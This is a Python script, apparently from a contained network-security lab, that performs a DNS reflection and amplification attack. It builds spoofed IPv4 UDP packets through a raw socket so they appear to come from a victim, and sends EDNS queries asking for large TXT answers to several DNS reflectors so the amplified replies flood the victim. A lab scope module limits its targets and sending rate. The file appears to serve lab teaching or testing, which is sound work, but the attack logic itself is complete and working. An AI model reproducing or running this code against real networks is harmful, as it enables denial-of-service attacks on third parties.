"""Reflection and amplification: questions sent to DNS servers as if from a victim, whose answers
(larger than the questions) all go to the victim.

``python3 attacks/reflect.py VICTIM REFLECTOR [REFLECTOR ...] --name NAME [--type TXT] [--rate R]
[--seconds S] [--packets P]`` sends, in turn to each reflector, the same question (EDNS with a
4096-byte buffer, as attackers ask) from the victim's address and a random port, through a raw
socket (CAP_NET_RAW in the node's namespace: the attacker's own lab), at most R a second. Prints
JSON ``{"sent", "bytes", "seconds"}``: what the attacker spent (IP packets); what the victim
received is seen there (``lab.capture`` on the victim). Every address must be a node of this lab
(:mod:`scope`); bounded like every tool.
"""
from __future__ import annotations

import argparse
import json
import random
import socket
import sys
import time

import dns.message

import scope
import spoof


def main(argv: list[str]) -> int:
    ap = argparse.ArgumentParser(prog="reflect.py", description=__doc__.split("\n\n")[0])
    ap.add_argument("victim", help="the node the answers go to")
    ap.add_argument("reflectors", nargs="+", help="DNS servers (nodes of this lab) to send the questions to")
    ap.add_argument("--name", required=True, help="the name asked (one with a large answer)")
    ap.add_argument("--type", default="TXT", help="the type asked (default TXT)")
    ap.add_argument("--rate", type=float, default=500, help="questions per second (default 500)")
    ap.add_argument("--seconds", type=float, default=2, help="how long (default 2)")
    ap.add_argument("--packets", type=int, default=1000, help="at most this many questions (default 1000)")
    args = ap.parse_args(argv[1:])
    try:
        rate, seconds = scope.bounded("rate", args.rate), scope.bounded("seconds", args.seconds)
        limit = int(scope.bounded("packets", args.packets))
        payload = dns.message.make_query(args.name, args.type, use_edns=0, payload=4096).to_wire()
    except Exception as exc:
        sys.exit(f"refused: {exc}")
    victim = scope.target(args.victim)
    reflectors = [scope.target(r) for r in args.reflectors]
    if any(":" in a for a in [victim, *reflectors]):
        sys.exit("refused: the reflector forges IPv4 packets; give IPv4 addresses")
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random()
    sent = size = 0
    t0 = time.monotonic()
    deadline = t0 + seconds
    while sent < limit and time.monotonic() < deadline:
        wait = t0 + sent / rate - time.monotonic()
        if wait > 0:
            time.sleep(min(wait, deadline - time.monotonic()))
            continue
        target = reflectors[sent % len(reflectors)]
        wire = spoof.udp_packet(victim, target, rng.randrange(1024, 65536), 53, payload)
        sock.sendto(wire, (target, 0))
        sent, size = sent + 1, size + len(wire)
    print(json.dumps({"sent": sent, "bytes": size, "seconds": round(time.monotonic() - t0, 3)}))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
